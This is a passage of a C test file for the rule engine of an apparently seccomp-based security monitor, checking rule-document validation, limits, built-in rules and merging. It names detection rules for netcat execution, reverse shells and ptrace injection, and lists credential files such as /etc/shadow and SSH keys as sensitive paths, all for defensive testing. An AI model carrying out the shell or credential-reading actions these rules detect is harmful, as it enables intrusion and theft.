/* test_rules.c: the rule engine (RULES.md) as golden tables, in the manner
 * of libseccomp's tests: rules documents in, accepted or refused (and what
 * the message must name) out; activities in, the ids of the rules that
 * match out; syscalls in, the compiled filter's action out. */
#include "unit.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <seccomp.h>
#include <stdint.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "bpf_sim.h"
#include "rules.h"
#include "rules_spec.h"
#include "seccomp_filter.h"
#include "spec_concrete.h"

#define N_BUILTIN 29
/* What --file-events=off takes away. */
#define FILE_EVENTS ((1U << ACT_OPEN) | (1U << ACT_UNLINK) | (1U << ACT_RENAME) | \
		     (1U << ACT_CHMOD))

/* ------------------------------------------------------------------ */
/* Helpers */

/* The tables write JSON with single quotes, which C strings do not
 * escape; they become double quotes here (no document needs a '). */
static char *dq(const char *s)
{
	char *t = strdup(s);

	if (!t)
		abort();
	for (char *p = t; *p; p++)
		if (*p == '\'')
			*p = '"';
	return t;
}

static int add_doc(struct ruleset *rs, const char *doc, struct fc_err *e)
{
	char *text = dq(doc);
	int rc = ruleset_add_text(rs, "test.json", text, strlen(text), e);

	free(text);
	return rc;
}

/* A growing string, for documents too long to write by hand. */
struct sb {
	char *s;
	size_t len, cap;
};

__attribute__((format(printf, 2, 3)))
static void sb_add(struct sb *b, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0)
		abort();
	if (b->len + (size_t)n + 1 > b->cap) {
		size_t cap = b->cap ? b->cap : 256;

		while (cap < b->len + (size_t)n + 1)
			cap *= 2;
		b->s = realloc(b->s, cap);
		if (!b->s)
			abort();
		b->cap = cap;
	}
	va_start(ap, fmt);
	vsnprintf(b->s + b->len, b->cap - b->len, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

static int find_rule(const struct ruleset *rs, const char *id)
{
	for (size_t i = 0; i < rs->n; i++)
		if (strcmp(rs->rules[i].id, id) == 0)
			return (int)i;
	return -1;
}

/* ------------------------------------------------------------------ */
/* a. Loading */

/* Every document has the rule on line 2 and its conditions on line 3,
 * so that the table can say which line a message must name. */
#define HEAD "{'rules': [\n"
#define TAIL "\n]}"
#define REQ "'title': 't', 'severity': 'low', 'action': 'alert'"
#define RULE(ev, when) HEAD "{'id': 'r1', " REQ ", 'event': " ev ",\n 'when': [" \
	when "]}" TAIL
/* A rule on line 2 with the given keys only. */
#define BARE(keys) HEAD "{" keys "}" TAIL
#define COND(f, op, v) "{'field': '" f "', 'op': '" op "', 'value': " v "}"

struct load_case {
	const char *why;
	const char *doc;
	const char *want[4];     /* substrings of the message; none: accepted */
};

static const struct load_case load_cases[] = {
	/* Accepted. */
	{ "a minimal rule", RULE("'exec'", ""), { NULL } },
	{ "an empty rules list", "{'rules': []}", { NULL } },
	{ "every optional key", HEAD "{'id': 'a-Z_0.9', 'title': 'Tïtle', "
	  "'severity': 'critical', 'action': 'kill', 'event': ['exec', 'open'], "
	  "'mitre': 'T1059.004', 'enabled': false, 'description': 'd\\nmore', "
	  "'when': []}" TAIL, { NULL } },
	{ "mitre without a sub-technique", HEAD "{'id': 'r1', " REQ ", 'mitre': 'T1059', "
	  "'event': 'exec', 'when': []}" TAIL, { NULL } },
	{ "sensitive paths and globs", "{'sensitive_paths': ['/srv/k', '/home/*/.x/*'], "
	  "'rules': []}", { NULL } },
	{ "every severity and action", HEAD
	  "{'id': 'a', 'title': 't', 'severity': 'informational', 'action': 'alert',\n"
	  " 'event': 'exec', 'when': []},\n"
	  "{'id': 'b', 'title': 't', 'severity': 'low', 'action': 'deny',\n"
	  " 'event': 'exec', 'when': []},\n"
	  "{'id': 'c', 'title': 't', 'severity': 'medium', 'action': 'kill',\n"
	  " 'event': 'exec', 'when': []},\n"
	  "{'id': 'd', 'title': 't', 'severity': 'high', 'action': 'alert',\n"
	  " 'event': 'exec', 'when': []},\n"
	  "{'id': 'e', 'title': 't', 'severity': 'critical', 'action': 'alert',\n"
	  " 'event': 'exec', 'when': []}"
	  TAIL, { NULL } },
	{ "every event name", RULE("['exec', 'open', 'unlink', 'rename', 'chmod', 'connect', "
	  "'bind', 'listen', 'ptrace', 'unshare', 'setns', 'dup']", ""), { NULL } },
	{ "every op on a field of its type", RULE("['exec', 'chmod']",
	  COND("process.name", "eq", "'sh'") ", " COND("process.name", "in", "['sh']") ", "
	  COND("process.path", "prefix", "'/'") ", " COND("process.path", "suffix", "'h'") ", "
	  COND("process.cmd_line", "contains", "'x'") ", " COND("file.path", "glob", "'/*'") ", "
	  COND("file.mode", "any_bits", "2048") ", " COND("process.pid", "eq", "-1") ", "
	  COND("process.is_main", "eq", "true") ", "
	  COND("process.args", "contains", "['a', 'b']")),
	  { NULL } },
	{ "not and nocase", RULE("'exec'", "{'field': 'process.name', 'op': 'eq', "
	  "'value': 'sh', 'not': false, 'nocase': true}"), { NULL } },
	{ "a field in only one of the rule's events", RULE("['exec', 'connect']",
	  COND("dst.port", "eq", "80")), { NULL } },

	/* The document. */
	{ "not JSON", "{'rules': [", { "test.json", "not valid JSON", "line 1" } },
	{ "a duplicate key (JSON the parser refuses)", "{'rules': [],\n 'rules': []}",
	  { "not valid JSON", "line 2" } },
	{ "a document that is not an object", "[]", { "must be an object" } },
	{ "an unknown top-level key", "{'rules': [],\n 'rulez': []}",
	  { "unknown key \"rulez\" in the file", "line 2" } },
	{ "rules missing", "{}", { "\"rules\" must be a list of rules", "line 1" } },
	{ "rules not a list", "{'rules': {}}", { "\"rules\" must be a list" } },
	{ "sensitive_paths not a list", "{'sensitive_paths': '/etc/x', 'rules': []}",
	  { "\"sensitive_paths\" must be a list" } },
	{ "a sensitive path that is not absolute", "{'sensitive_paths': ['/ok',\n "
	  "'etc/shadow'], 'rules': []}", { "absolute path", "line 2" } },
	{ "a sensitive path that is not a string", "{'sensitive_paths': [7], 'rules': []}",
	  { "absolute path" } },

	/* The rule's own keys. */
	{ "a rule that is not an object", HEAD "'r1'" TAIL,
	  { "rule 1: a rule must be an object", "line 2" } },
	{ "id missing", BARE(REQ ", 'event': 'exec', 'when': []"),
	  { "rule 1: \"id\" is missing", "line 2" } },
	{ "id not a string", BARE("'id': 7, " REQ ", 'event': 'exec', 'when': []"),
	  { "rule 1: \"id\" must be a string", "line 2" } },
	{ "id empty", BARE("'id': '', " REQ ", 'event': 'exec', 'when': []"),
	  { "rule 1: \"id\" must have 1 to 64 bytes" } },
	{ "id of 65 bytes", BARE("'id': '"
	  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', " REQ
	  ", 'event': 'exec', 'when': []"), { "\"id\" must have 1 to 64 bytes" } },
	{ "id with a space", BARE("'id': 'my rule', " REQ ", 'event': 'exec', 'when': []"),
	  { "rule 1: \"id\" may hold letters, digits", "line 2" } },
	{ "id with a slash", BARE("'id': 'a/b', " REQ ", 'event': 'exec', 'when': []"),
	  { "\"id\" may hold letters" } },
	{ "id with a non-ASCII letter", BARE("'id': 'r\xc3\xa9gle', " REQ
	  ", 'event': 'exec', 'when': []"), { "\"id\" may hold letters" } },
	{ "an unknown rule key", BARE("'id': 'r1', " REQ ", 'event': 'exec', 'when': [], "
	  "'titel': 'x'"), { "rule \"r1\": unknown key \"titel\" in a rule", "line 2" } },
	{ "title missing", BARE("'id': 'r1', 'severity': 'low', 'action': 'alert', "
	  "'event': 'exec', 'when': []"), { "rule \"r1\": \"title\" is missing", "line 2" } },
	{ "title not a string", BARE("'id': 'r1', 'title': ['t'], 'severity': 'low', "
	  "'action': 'alert', 'event': 'exec', 'when': []"),
	  { "rule \"r1\": \"title\" must be a string, not array" } },
	{ "title of two lines", BARE("'id': 'r1', 'title': 'one\\ntwo', 'severity': 'low', "
	  "'action': 'alert', 'event': 'exec', 'when': []"),
	  { "rule \"r1\": \"title\" must be one line", "line 2" } },
	{ "title with a carriage return", BARE("'id': 'r1', 'title': 'one\\rtwo', "
	  "'severity': 'low', 'action': 'alert', 'event': 'exec', 'when': []"),
	  { "\"title\" must be one line" } },
	{ "severity missing", BARE("'id': 'r1', 'title': 't', 'action': 'alert', "
	  "'event': 'exec', 'when': []"), { "rule \"r1\": \"severity\" must be", "line 2" } },
	{ "severity unknown", BARE("'id': 'r1', 'title': 't', 'severity': 'severe', "
	  "'action': 'alert', 'event': 'exec', 'when': []"),
	  { "rule \"r1\": \"severity\" must be informational, low, medium, high or critical" } },
	{ "severity a number", BARE("'id': 'r1', 'title': 't', 'severity': 3, "
	  "'action': 'alert', 'event': 'exec', 'when': []"), { "\"severity\" must be" } },
	{ "severity in capitals", BARE("'id': 'r1', 'title': 't', 'severity': 'HIGH', "
	  "'action': 'alert', 'event': 'exec', 'when': []"), { "\"severity\" must be" } },
	{ "action missing", BARE("'id': 'r1', 'title': 't', 'severity': 'low', "
	  "'event': 'exec', 'when': []"),
	  { "rule \"r1\": \"action\" must be alert, deny or kill" } },
	{ "action unknown", BARE("'id': 'r1', 'title': 't', 'severity': 'low', "
	  "'action': 'block', 'event': 'exec', 'when': []"),
	  { "rule \"r1\": \"action\" must be alert, deny or kill", "line 2" } },
	{ "enabled not a bool", BARE("'id': 'r1', " REQ ", 'enabled': 'no', "
	  "'event': 'exec', 'when': []"), { "rule \"r1\": \"enabled\" must be true or false" } },
	{ "description not a string", BARE("'id': 'r1', " REQ ", 'description': 5, "
	  "'event': 'exec', 'when': []"), { "rule \"r1\": \"description\" must be a string" } },
	{ "mitre too short", BARE("'id': 'r1', " REQ ", 'mitre': 'T105', "
	  "'event': 'exec', 'when': []"), { "rule \"r1\": \"mitre\" must be a technique id" } },
	{ "mitre with a 2-digit sub-technique", BARE("'id': 'r1', " REQ ", 'mitre': 'T1059.04', "
	  "'event': 'exec', 'when': []"), { "\"mitre\" must be a technique id" } },
	{ "mitre without the T", BARE("'id': 'r1', " REQ ", 'mitre': 'X1059', "
	  "'event': 'exec', 'when': []"), { "\"mitre\" must be a technique id" } },
	{ "mitre too long", BARE("'id': 'r1', " REQ ", 'mitre': 'T1059.0041', "
	  "'event': 'exec', 'when': []"), { "\"mitre\" must have 1 to 9 bytes" } },
	{ "mitre not a string", BARE("'id': 'r1', " REQ ", 'mitre': 1059, "
	  "'event': 'exec', 'when': []"), { "\"mitre\" must be a string" } },
	{ "event missing", BARE("'id': 'r1', " REQ ", 'when': []"),
	  { "rule \"r1\": \"event\" is missing", "line 2" } },
	{ "event unknown", RULE("'exe'", ""),
	  { "rule \"r1\": \"exe\" is not an event: use exec", "line 2" } },
	{ "event a number", RULE("7", ""), { "\"event\" must be an event name or a list" } },
	{ "event an empty list", RULE("[]", ""), { "rule \"r1\": \"event\" lists no event" } },
	{ "event list with an unknown name", RULE("['exec', 'opn']", ""),
	  { "\"opn\" is not an event", "line 2" } },
	{ "when missing", BARE("'id': 'r1', " REQ ", 'event': 'exec'"),
	  { "rule \"r1\": \"when\" must be a list of conditions", "line 2" } },
	{ "when an object", BARE("'id': 'r1', " REQ ", 'event': 'exec', 'when': {}"),
	  { "\"when\" must be a list of conditions" } },
	{ "a duplicate id in the file", HEAD "{'id': 'r1', " REQ ", 'event': 'exec', 'when': []},\n"
	  "{'id': 'r1', " REQ ", 'event': 'open', 'when': []}" TAIL,
	  { "rule \"r1\": the id is used twice in this file", "line 3" } },
	{ "the second rule's error names it", HEAD "{'id': 'r1', " REQ ", 'event': 'exec', "
	  "'when': []},\n{'id': 'second', " REQ ", 'event': 'exec', 'when': [],\n 'severty': 1}"
	  TAIL, { "rule \"second\": unknown key \"severty\"", "line 4" } },
	{ "an invalid id in the third rule is named by number", HEAD
	  "{'id': 'a', " REQ ", 'event': 'exec', 'when': []},\n"
	  "{'id': 'b', " REQ ", 'event': 'exec', 'when': []},\n"
	  "{'id': '!', " REQ ", 'event': 'exec', 'when': []}" TAIL,
	  { "rule 3: \"id\" may hold", "line 4" } },

	/* Conditions. */
	{ "a condition that is not an object", RULE("'exec'", "'process.name'"),
	  { "rule \"r1\": condition 1: a condition must be an object", "line 3" } },
	{ "an unknown condition key", RULE("'exec'", "{'field': 'process.name', 'op': 'eq', "
	  "'value': 'sh', 'nocas': true}"),
	  { "condition 1: unknown key \"nocas\" in a condition", "line 3" } },
	{ "field missing", RULE("'exec'", "{'op': 'eq', 'value': 'sh'}"),
	  { "condition 1: \"field\" must be a field name", "line 3" } },
	{ "field not a string", RULE("'exec'", "{'field': 1, 'op': 'eq', 'value': 'sh'}"),
	  { "\"field\" must be a field name" } },
	{ "an unknown field", RULE("'exec'", COND("process.argz", "eq", "'x'")),
	  { "rule \"r1\": condition 1: field \"process.argz\" is not an event field",
	    "line 3", "RULES.md" } },
	{ "an unknown field in the second condition", RULE("'exec'",
	  COND("process.name", "eq", "'sh'") ",\n " COND("dst.ipp", "eq", "'x'")),
	  { "condition 2: field \"dst.ipp\" is not an event field", "line 4" } },
	{ "a field none of the rule's events has", RULE("'exec'", COND("dst.port", "eq", "80")),
	  { "rule \"r1\": condition 1: field \"dst.port\" is in none of this rule's events",
	    "line 3" } },
	{ "file.old_path on open", RULE("['open', 'unlink']", COND("file.old_path", "eq", "'/x'")),
	  { "field \"file.old_path\" is in none of this rule's events" } },
	{ "op missing", RULE("'exec'", "{'field': 'process.name', 'value': 'sh'}"),
	  { "condition 1: \"op\" must be one of eq, in, prefix", "line 3" } },
	{ "an unknown op", RULE("'exec'", COND("process.name", "equals", "'sh'")),
	  { "condition 1: \"equals\" is not an op", "line 3" } },
	{ "prefix on a number field", RULE("'connect'", COND("dst.port", "prefix", "'80'")),
	  { "condition 1: prefix needs a string field; \"dst.port\" is not one", "line 3" } },
	{ "glob on a bool field", RULE("'exec'", COND("process.is_main", "glob", "'*'")),
	  { "glob needs a string field; \"process.is_main\"" } },
	{ "contains on a number field", RULE("'dup'", COND("fd.new", "contains", "'1'")),
	  { "contains needs a string field" } },
	{ "suffix on a number field", RULE("'exec'", COND("process.pid", "suffix", "'1'")),
	  { "suffix needs a string field" } },
	{ "any_bits on a string field", RULE("'exec'", COND("process.name", "any_bits", "1")),
	  { "condition 1: any_bits needs a number field; \"process.name\" is not one",
	    "line 3" } },
	{ "any_bits on a bool field", RULE("'exec'", COND("process.is_main", "any_bits", "1")),
	  { "any_bits needs a number field" } },
	{ "any_bits on the args list", RULE("'exec'", COND("process.args", "any_bits", "1")),
	  { "any_bits needs a number field" } },
	{ "a string for a number field", RULE("'connect'", COND("dst.port", "eq", "'80'")),
	  { "condition 1: field \"dst.port\" is a number: the value must be an integer",
	    "line 3" } },
	{ "a number for a bool field", RULE("'exec'", COND("process.is_main", "eq", "1")),
	  { "condition 1: field \"process.is_main\" is true or false, not number" } },
	{ "a string for a bool field", RULE("'exec'", COND("process.is_main", "eq", "'true'")),
	  { "field \"process.is_main\" is true or false, not string" } },
	{ "a fraction for a number field", RULE("'connect'", COND("dst.port", "eq", "80.5")),
	  { "field \"dst.port\" is a number: the value must be an integer" } },
	{ "an exponent for a number field", RULE("'chmod'", COND("file.mode", "eq", "1e3")),
	  { "field \"file.mode\" is a number: the value must be an integer" } },
	{ "a number too large for a long long", RULE("'chmod'", COND("file.mode", "eq",
	  "9223372036854775808")), { "the value must be an integer" } },
	{ "a number for a string field", RULE("'exec'", COND("process.name", "eq", "5")),
	  { "field \"process.name\" is a string: the value must be a string, not number" } },
	{ "a bool for a string field", RULE("'exec'", COND("process.name", "eq", "true")),
	  { "the value must be a string, not bool" } },
	{ "null for a string field", RULE("'exec'", COND("process.name", "eq", "null")),
	  { "the value must be a string, not null" } },
	{ "a bad element in a list", RULE("'exec'", COND("process.name", "in",
	  "['sh',\n 5]")), { "field \"process.name\" is a string", "line 4" } },
	{ "in without a list", RULE("'exec'", COND("process.name", "in", "'sh'")),
	  { "condition 1: \"in\" needs a list of values", "line 3" } },
	{ "an empty list", RULE("'exec'", COND("process.name", "eq", "[]")),
	  { "condition 1: \"value\" must list 1 to 4096 values", "line 3" } },
	{ "an empty list with in", RULE("'exec'", COND("process.name", "in", "[]")),
	  { "\"value\" must list 1 to 4096 values" } },
	{ "any_bits with a list", RULE("'chmod'", COND("file.mode", "any_bits", "[1, 2]")),
	  { "condition 1: any_bits takes one number, not a list", "line 3" } },
	{ "value missing", RULE("'exec'", "{'field': 'process.name', 'op': 'eq'}"),
	  { "condition 1: \"value\" is missing", "line 3" } },
	{ "not as a string", RULE("'exec'", "{'field': 'process.name', 'op': 'eq', "
	  "'value': 'sh', 'not': 'yes'}"), { "condition 1: \"not\" must be true or false" } },
	{ "not as a number", RULE("'exec'", "{'field': 'process.name', 'op': 'eq', "
	  "'value': 'sh', 'not': 1}"), { "\"not\" must be true or false" } },
	{ "nocase as a number", RULE("'exec'", "{'field': 'process.name', 'op': 'eq', "
	  "'value': 'sh', 'nocase': 1}"), { "condition 1: \"nocase\" must be true or false" } },
};

/* Refused: kind INPUT, one line, "(see RULES.md)", every wanted piece. */
static int refused_with(const struct fc_err *e, int rc, const char *const *want)
{
	if (rc == 0 || e->kind != FC_ERR_INPUT || strchr(e->msg, '\n'))
		return 0;
	for (size_t k = 0; k < 4 && want[k]; k++)
		if (!strstr(e->msg, want[k]))
			return 0;
	return 1;
}

static void test_load_table(void)
{
	for (size_t i = 0; i < sizeof load_cases / sizeof *load_cases; i++) {
		const struct load_case *c = &load_cases[i];
		struct ruleset rs = { 0 };
		struct fc_err e = { 0 };
		size_t before, sens;
		int rc, ok;

		/* Onto the built-in set: a refusal must leave it as it was. */
		if (ruleset_load_builtin(&rs, &e) < 0) {
			CHECK(0, "load: %s (the built-in set loads)", c->why);
			continue;
		}
		before = rs.n;
		sens = rs.n_sensitive;
		rc = add_doc(&rs, c->doc, &e);
		if (!c->want[0]) {
			ok = rc == 0 && rs.n >= before;
			if (!CHECK(ok, "load: %s: accepted", c->why))
				unit_diag("%s", e.msg);
		} else {
			/* Only a JSON syntax error comes without the pointer
			 * to RULES.md: the parser's message says what to fix. */
			ok = refused_with(&e, rc, c->want) && rs.n == before &&
			     rs.n_sensitive == sens &&
			     (strstr(e.msg, "(see RULES.md)") ||
			      strstr(e.msg, "is not valid JSON: line ")) &&
			     strncmp(e.msg, "rules file test.json", 20) == 0;
			if (!CHECK(ok, "load: %s: refused", c->why)) {
				unit_diag("rc %d kind %d, set %zu -> %zu rules", rc, e.kind,
					  before, rs.n);
				unit_diag("message: %s", rc ? e.msg : "(none)");
				for (size_t k = 0; k < 4 && c->want[k]; k++)
					unit_diag("want:    %s", c->want[k]);
			}
		}
		ruleset_free(&rs);
	}
}

/* Limits that take too much text for the table. */
static void test_load_limits(void)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	struct sb b = { 0 };
	int rc;

	/* 32 conditions are allowed, 33 are not. */
	for (int n = 32; n <= 33; n++) {
		b.len = 0;
		sb_add(&b, "{'rules': [{'id': 'many', " REQ ", 'event': 'exec', 'when': [");
		for (int i = 0; i < n; i++)
			sb_add(&b, "%s" COND("process.name", "eq", "'x%d'"), i ? ", " : "", i);
		sb_add(&b, "]}]}");
		rc = add_doc(&rs, b.s, &e);
		if (n == 32)
			CHECK(rc == 0 && rs.n == 1 && rs.rules[0].n_cond == 32,
			      "load: 32 conditions are accepted");
		else
			CHECK(rc < 0 && e.kind == FC_ERR_INPUT && rs.n == 0 &&
			      strstr(e.msg, "rule \"many\": more than 32 conditions"),
			      "load: 33 conditions are refused, naming the rule");
		ruleset_free(&rs);
	}

	/* A title of 200 bytes, and one of 201. */
	for (int n = 200; n <= 201; n++) {
		b.len = 0;
		sb_add(&b, "{'rules': [{'id': 'long', 'title': '%0*d', 'severity': 'low', "
		       "'action': 'alert', 'event': 'exec', 'when': []}]}", n, 7);
		rc = add_doc(&rs, b.s, &e);
		if (n == 200)
			CHECK(rc == 0, "load: a title of 200 bytes is accepted");
		else
			CHECK(rc < 0 && strstr(e.msg, "\"title\" must have 1 to 200 bytes"),
			      "load: a title of 201 bytes is refused");
		ruleset_free(&rs);
	}

	/* A glob pattern longer than 4096 bytes. */
	b.len = 0;
	sb_add(&b, "{'rules': [{'id': 'g', " REQ ", 'event': 'open', 'when': ["
	       "{'field': 'file.path', 'op': 'glob', 'value': '/%04097d'}]}]}", 1);
	rc = add_doc(&rs, b.s, &e);
	CHECK(rc < 0 && strstr(e.msg, "glob pattern longer than 4096 bytes") &&
	      strstr(e.msg, "rule \"g\": condition 1"), "load: a glob of 4098 bytes is refused");
	ruleset_free(&rs);

	/* 1024 sensitive paths, then 1025. */
	for (int n = 1024; n <= 1025; n++) {
		b.len = 0;
		sb_add(&b, "{'rules': [], 'sensitive_paths': [");
		for (int i = 0; i < n; i++)
			sb_add(&b, "%s'/s/%d'", i ? ", " : "", i);
		sb_add(&b, "]}");
		rc = add_doc(&rs, b.s, &e);
		if (n == 1024)
			CHECK(rc == 0 && rs.n_sensitive == 1024,
			      "load: 1024 sensitive paths are accepted");
		else
			CHECK(rc < 0 && rs.n_sensitive == 0 &&
			      strstr(e.msg, "more than 1024 sensitive paths"),
			      "load: 1025 sensitive paths are refused");
		ruleset_free(&rs);
	}

	/* RULES_MAX rules in a file, then one more. */
	for (int n = RULES_MAX; n <= RULES_MAX + 1; n++) {
		b.len = 0;
		sb_add(&b, "{'rules': [");
		for (int i = 0; i < n; i++)
			sb_add(&b, "%s{'id': 'r%d', " REQ ", 'event': 'exec', 'when': []}",
			       i ? ",\n" : "", i);
		sb_add(&b, "]}");
		rc = add_doc(&rs, b.s, &e);
		if (n == RULES_MAX)
			CHECK(rc == 0 && rs.n == RULES_MAX, "load: %d rules are accepted",
			      RULES_MAX);
		else
			CHECK(rc < 0 && rs.n == 0 && strstr(e.msg, "more than 1024 rules"),
			      "load: %d rules in a file are refused", RULES_MAX + 1);
		ruleset_free(&rs);
	}

	/* The built-in rules count towards the limit too. */
	if (ruleset_load_builtin(&rs, &e) == 0) {
		size_t fresh = RULES_MAX - rs.n + 1;

		b.len = 0;
		sb_add(&b, "{'rules': [");
		for (size_t i = 0; i < fresh; i++)
			sb_add(&b, "%s{'id': 'n%zu', " REQ ", 'event': 'exec', 'when': []}",
			       i ? "," : "", i);
		sb_add(&b, "]}");
		rc = add_doc(&rs, b.s, &e);
		CHECK(rc < 0 && e.kind == FC_ERR_INPUT && rs.n == N_BUILTIN &&
		      strstr(e.msg, "more than 1024 rules in all"),
		      "load: built-in + added rules over %d are refused, set unchanged",
		      RULES_MAX);
		if (rc == 0 || !strstr(e.msg, "in all"))
			unit_diag("%s", e.msg);
		ruleset_free(&rs);
	}

	/* A document over 1 MiB is refused before it is parsed. */
	{
		size_t big = RULES_FILE_MAX + 1;
		char *text = malloc(big);

		if (!text)
			abort();
		memset(text, ' ', big);
		memcpy(text, "{\"rules\": []}", 13);
		rc = ruleset_add_text(&rs, "big.json", text, big, &e);
		CHECK(rc < 0 && e.kind == FC_ERR_INPUT && strstr(e.msg, "big.json") &&
		      strstr(e.msg, "larger than"), "load: a document over 1 MiB is refused");
		/* The same text just under the limit parses. */
		rc = ruleset_add_text(&rs, "big.json", text, big - 1, &e);
		CHECK(rc == 0, "load: a document of exactly 1 MiB (mostly spaces) is accepted");
		free(text);
		ruleset_free(&rs);
	}
	free(b.s);
}

static void test_builtin(void)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	uint32_t ev;
	int all_flagged = 1;

	if (!CHECK(ruleset_load_builtin(&rs, &e) == 0, "builtin: the built-in set loads")) {
		unit_diag("%s", e.msg);
		return;
	}
	CHECK(rs.n >= 15, "builtin: at least 15 rules (%zu)", rs.n);
	CHECK(rs.n == N_BUILTIN, "builtin: the %d rules of rules_builtin.json", N_BUILTIN);
	for (size_t i = 0; i < rs.n; i++)
		if (!rs.rules[i].builtin || !rs.rules[i].enabled || !rs.rules[i].mitre)
			all_flagged = 0;
	CHECK(all_flagged, "builtin: every built-in rule is flagged built-in, enabled, "
	      "with a MITRE id");
	CHECK(rs.n_sensitive >= 8 && ruleset_is_sensitive(&rs, "/etc/shadow") &&
	      ruleset_is_sensitive(&rs, "/home/app/.ssh/id_rsa") &&
	      !ruleset_is_sensitive(&rs, "/home/app/x/.ssh/id_rsa") &&
	      !ruleset_is_sensitive(&rs, "/etc/passwd"),
	      "builtin: sensitive paths are globs whose * stops at /");
	ev = ruleset_events(&rs);
	CHECK(ev == (((1U << ACT_N_EVENTS) - 1U) & ~((1U << ACT_LISTEN) | (1U << ACT_SYSCALL))),
	      "builtin: the rules look at every event but listen and a policy's (0x%x; "
	      "bind: unreadable-arguments)", ev);
	CHECK(strcmp(rule_action_name(RA_KILL), "kill") == 0 &&
	      strcmp(rule_severity_name(5), "critical") == 0 &&
	      strcmp(rule_severity_name(1), "informational") == 0 &&
	      strcmp(rule_severity_name(0), "unknown") == 0,
	      "builtin: action and severity names");
	ruleset_free(&rs);
	CHECK(rs.n == 0 && rs.rules == NULL, "builtin: ruleset_free empties the set");
}

/* A --rules file on top of the built-in set (RULES.md: replace by id,
 * turn off, append, add sensitive paths, all or nothing). */
static void test_merge(void)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	size_t n, sens;
	int k, pt;

	if (ruleset_load_builtin(&rs, &e) < 0) {
		CHECK(0, "merge: the built-in set loads");
		return;
	}
	n = rs.n;
	sens = rs.n_sensitive;
	k = find_rule(&rs, "shell-by-non-shell");
	CHECK(k >= 0 && rs.rules[k].action == RA_ALERT, "merge: shell-by-non-shell is "
	      "an alert before");

	CHECK(add_doc(&rs, "{'rules': [{'id': 'shell-by-non-shell', 'title': 'Mine', "
		      "'severity': 'critical', 'action': 'kill', 'event': 'exec', "
		      "'when': []}]}", &e) == 0, "merge: an override of a built-in id loads");
	CHECK(rs.n == n && find_rule(&rs, "shell-by-non-shell") == k,
	      "merge: the override replaces the rule in place (count unchanged)");
	CHECK(rs.rules[k].action == RA_KILL && rs.rules[k].severity_id == 5 &&
	      strcmp(rs.rules[k].title, "Mine") == 0 && rs.rules[k].n_cond == 0 &&
	      !rs.rules[k].builtin, "merge: the override's action, title and conditions "
	      "are the new ones");

	/* Off: ptrace-attach alone does not drop the ptrace event. */
	pt = find_rule(&rs, "ptrace-attach");
	CHECK(add_doc(&rs, "{'rules': [{'id': 'ptrace-attach', " REQ ", 'event': 'ptrace', "
		      "'enabled': false, 'when': []}]}", &e) == 0 && rs.n == n &&
	      pt >= 0 && !rs.rules[pt].enabled, "merge: enabled:false turns a built-in off");
	CHECK(ruleset_events(&rs) & (1U << ACT_PTRACE),
	      "merge: ptrace stays an event while ptrace-traceme uses it");
	CHECK(add_doc(&rs, "{'rules': [{'id': 'ptrace-traceme', " REQ ", 'event': 'ptrace', "
		      "'enabled': false, 'when': []},\n{'id': 'reverse-shell-socket-stdio', "
		      REQ ", 'event': 'dup', 'enabled': false, 'when': []}]}", &e) == 0,
	      "merge: two more built-ins turned off");
	CHECK(ruleset_events(&rs) & (1U << ACT_PTRACE),
	      "merge: ptrace stays an event while process-memory-write uses it");
	CHECK(add_doc(&rs, "{'rules': [{'id': 'process-memory-write', " REQ ", "
		      "'event': 'ptrace', 'enabled': false, 'when': []}]}", &e) == 0,
	      "merge: process-memory-write turned off");
	CHECK(!(ruleset_events(&rs) & (1U << ACT_PTRACE)) &&
	      !(ruleset_events(&rs) & (1U << ACT_DUP)) &&
	      (ruleset_events(&rs) & (1U << ACT_EXEC)),
	      "merge: ruleset_events drops ptrace and dup, which only they used");
	{
		struct activity a = { .event = ACT_PTRACE, .ptrace_request = "attach",
				      .target_pid = 5 };
		size_t out[8];

		CHECK(ruleset_match(&rs, &a, out, 8) == 0,
		      "merge: a rule turned off matches nothing");
	}

	/* New ids are appended; sensitive paths add to the list. */
	CHECK(!ruleset_is_sensitive(&rs, "/srv/secret/key"), "merge: /srv/secret/key is "
	      "not sensitive before");
	CHECK(add_doc(&rs, "{'sensitive_paths': ['/srv/secret/*'], 'rules': [\n"
		      "{'id': 'mine-1', " REQ ", 'event': 'exec', 'when': []},\n"
		      "{'id': 'mine-2', " REQ ", 'event': 'connect', 'when': []}]}", &e) == 0,
	      "merge: a file with new ids and a sensitive path loads");
	CHECK(rs.n == n + 2 && strcmp(rs.rules[n].id, "mine-1") == 0 &&
	      strcmp(rs.rules[n + 1].id, "mine-2") == 0 && !rs.rules[n].builtin,
	      "merge: new ids are appended in file order");
	CHECK(rs.n_sensitive == sens + 1 && strcmp(rs.sensitive[sens], "/srv/secret/*") == 0 &&
	      ruleset_is_sensitive(&rs, "/srv/secret/key") &&
	      ruleset_is_sensitive(&rs, "/etc/shadow"),
	      "merge: sensitive paths are added to the built-in ones");

	/* All or nothing: a valid override, a path, then a bad rule. */
	n = rs.n;
	sens = rs.n_sensitive;
	k = find_rule(&rs, "netcat-exec");
	CHECK(add_doc(&rs, "{'sensitive_paths': ['/new/*'], 'rules': [\n"
		      "{'id': 'netcat-exec', " REQ ", 'event': 'exec', 'when': []},\n"
		      "{'id': 'mine-3', " REQ ", 'event': 'exec', 'when': []},\n"
		      "{'id': 'bad', " REQ ", 'event': 'exec', 'when': [" COND("nope", "eq", "1")
		      "]}]}", &e) < 0 && strstr(e.msg, "line 4"),
	      "merge: a file whose third rule is bad is refused");
	CHECK(rs.n == n && rs.n_sensitive == sens && find_rule(&rs, "mine-3") < 0 &&
	      k >= 0 && rs.rules[k].action == RA_DENY && rs.rules[k].builtin &&
	      rs.rules[k].n_cond == 2 && !ruleset_is_sensitive(&rs, "/new/x"),
	      "merge: a refused file changes nothing (override, new rule, path)");

	/* The same id in two files: the later one wins. */
